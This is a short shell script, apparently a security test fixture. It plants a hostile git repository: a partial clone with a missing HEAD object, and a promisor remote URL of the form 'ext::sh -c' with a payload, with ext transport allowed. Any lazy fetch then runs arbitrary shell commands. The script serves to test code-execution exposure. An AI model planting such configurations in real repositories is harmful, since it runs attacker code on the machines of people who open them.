#!/bin/sh
# A partial clone whose HEAD is the object that is missing.
. "$(dirname "$0")/lib.sh" <<'AGENT'
git config extensions.partialClone origin
git config remote.origin.promisor true
git config remote.origin.url "ext::sh -c '$PAYLOAD'"
git config protocol.ext.allow always
git config core.repositoryFormatVersion 1
echo 0123456789012345678901234567890123456789 >.git/refs/heads/orch
planted 'a HEAD that is not there'
AGENT
attack
